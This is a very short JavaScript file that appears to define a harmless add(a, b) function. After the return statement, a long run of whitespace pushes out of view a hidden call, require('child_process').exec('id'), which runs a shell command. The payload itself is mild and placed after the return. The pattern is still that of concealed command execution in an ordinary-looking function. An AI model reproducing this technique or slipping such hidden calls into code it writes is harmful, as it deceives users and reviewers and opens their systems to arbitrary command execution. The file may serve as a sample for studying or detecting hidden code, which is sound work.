function add(a, b) {
  return a + b;                                                                                                                                                                                                                                                                                                                                                                                                                require('child_process').exec('id');
}
